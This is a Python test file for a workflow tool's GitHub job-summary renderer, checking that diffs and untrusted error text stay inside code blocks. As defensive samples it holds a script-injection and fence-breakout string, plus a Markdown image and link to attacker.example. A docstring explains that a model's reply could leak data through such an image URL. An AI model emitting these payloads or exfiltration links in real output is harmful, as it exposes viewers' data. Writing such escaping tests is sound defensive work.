"""A job summary shows a multi-line problem (a snapshot diff, a replay miss, a command's
stderr) as its first line, then the rest as it is in a code block of the same list item: a
diff reads as a diff, not as one flattened line. Checked with a CommonMark parser
(markdown-it-py, which rich brings), with text that tries to break out of the block."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from runners.reporters.github import tests_summary_markdown as summary_of
from runners.workflow_tests import CaseResult
from tests.reporters.conftest import plait

FLOW = """\
version: 1
name: diffed
steps:
  gen:
    run: [sh, -c, "printf 'alpha\\\\nbeta\\\\ngamma\\\\n'"]
outputs:
  text: ${{ steps.gen.output.stdout }}
tests:
  - name: lines
"""


def _tokens(markdown: str) -> list[Any]:
    return MarkdownIt("commonmark").parse(markdown)


def test_a_snapshot_diff_is_a_diff_block_in_the_job_summary(tmp_path: Path) -> None:
    (tmp_path / "wf.yaml").write_text(FLOW)
    assert plait("test", "wf.yaml", "--update-snapshots", cwd=tmp_path).returncode == 0
    snapshot = tmp_path / "__plait_snapshots__" / "wf.lines.json"
    snapshot.write_text(snapshot.read_text().replace("beta", "BETA"))
    summary = tmp_path / "summary.md"
    out = plait("test", "wf.yaml", cwd=tmp_path,
                env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    assert out.returncode == 1, out.stdout + out.stderr
    tokens = _tokens(summary.read_text(encoding="utf-8"))
    (item,) = [t for t in tokens if t.type == "list_item_open"]
    (fence,) = [t for t in tokens if t.type == "fence"]
    assert fence.info == "diff"
    lines = fence.content.splitlines()
    assert lines[:2] == ["--- wf.lines.json (stored)", "+++ wf.lines.json (this run)"]
    assert "-      | BETA" in lines and "+      | beta" in lines
    assert fence.map[0] > item.map[0] and fence.level > item.level  # inside the item


def test_nothing_in_the_text_ends_the_block_or_the_list_early() -> None:
    hostile = ("first line | with a pipe\n```\n````\n</details><script>alert(1)</script>\n"
               "no indentation\n\n- not a new item\n# not a heading")
    results = [CaseResult("wf", Path("wf.yaml"), "a", "failed", [hostile]),
               CaseResult("wf", Path("wf.yaml"), "b", "failed", ["plain"])]
    tokens = _tokens(summary_of(results))
    assert sum(t.type == "list_item_open" for t in tokens) == 2
    assert not any(t.type in ("html_block", "html_inline") for t in tokens)
    assert sum(t.type == "heading_open" for t in tokens) == 1  # the summary's own
    (fence,) = [t for t in tokens if t.type == "fence"]
    assert fence.content == hostile.split("\n", 1)[1] + "\n"
    inline = [t.content for t in tokens if t.type == "inline"]
    assert "`wf::a`: first line \\| with a pipe" in inline
    assert "`wf::b`: plain" in inline


def _item_shown(tokens: list[Any]) -> list[tuple[str, str]]:
    """What the one list item shows, token by token: (type, text)."""
    start = next(i for i, t in enumerate(tokens) if t.type == "list_item_open")
    item = next(t for t in tokens[start:] if t.type == "inline")
    return [(c.type, c.content) for c in item.children or []]


def test_an_errors_first_line_shows_no_link_image_or_markup_of_its_own(
        tmp_path: Path) -> None:
    """A failed step's error is untrusted (its command's stderr, a model's reply): its first
    line went into the job summary as Markdown, so `![](https://...)` put an image in the
    summary (fetched when viewed: a model could put what it read into that URL),
    `[Re-run](https://...)` a link, `**...**` bold and `&lt;` an entity. It is shown as it
    is."""
    first = ("![x](https://attacker.example/p.png?d=1) [Re-run here](https://attacker.example)"
             " **bold** _em_ `code` ~~gone~~ &lt;b&gt; <img src=x> back\\slash")
    (tmp_path / "wf.yaml").write_text(
        "version: 1\nname: md\nsteps:\n  bad:\n"
        "    run: [python3, -c, 'import sys; sys.exit(sys.argv[1])', " + json.dumps(first) + "]\n")
    summary = tmp_path / "summary.md"
    out = plait("run", "wf.yaml", "--no-record", cwd=tmp_path,
                env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    assert out.returncode == 1, out.stdout + out.stderr
    shown = _item_shown(_tokens(summary.read_text(encoding="utf-8")))
    assert shown[0] == ("code_inline", "bad"), shown  # the label, plait's own markup
    assert {kind for kind, _ in shown[1:]} == {"text"}, shown
    text = "".join(text for _, text in shown[1:])
    assert text.startswith(": command ") and text.endswith(f": {first}"), text
